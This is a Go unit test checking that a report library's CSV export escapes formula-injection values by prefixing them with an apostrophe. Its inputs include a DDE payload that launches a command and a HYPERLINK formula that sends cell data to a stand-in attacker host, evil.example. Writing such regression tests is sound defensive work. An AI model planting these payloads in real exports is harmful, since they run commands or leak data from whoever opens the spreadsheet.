package report_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/onward-network/onward/core/report"
)

// TestCSVNeutralisesFormulas reproduces finding 9: a name beginning with
// =, +, -, @, a tab or a carriage return went into the CSV as it was, and
// a spreadsheet would run it. Numbers stay numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	minus := -3.0
	r := report.Report{
		Columns: []string{"agency", "=cmd|' /C calc'!A0"},
		Rows: [][]report.Cell{
			{{Text: `=HYPERLINK("http://evil.example/?"&A1,"Click")`}, {Text: "-3", Value: &minus}},
			{{Text: "+44 7700 900123"}, {Text: "@SUM(A1:A9)"}},
			{{Text: "-2+3+cmd|' /C calc'!A0"}, {Text: "\t=1+1"}},
			{{Text: "\r=1+1"}, {Text: "Kirkton Citizens Advice"}},
		},
	}
	var b bytes.Buffer
	if err := r.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"agency", "'=cmd|' /C calc'!A0"},
		{`'=HYPERLINK("http://evil.example/?"&A1,"Click")`, "-3"},
		{"'+44 7700 900123", "'@SUM(A1:A9)"},
		{"'-2+3+cmd|' /C calc'!A0", "'\t=1+1"},
		{"'\r=1+1", "Kirkton Citizens Advice"},
	}
	for i := range want {
		for j := range want[i] {
			if recs[i][j] != want[i][j] {
				t.Errorf("row %d col %d = %q, want %q", i, j, recs[i][j], want[i][j])
			}
		}
	}
}
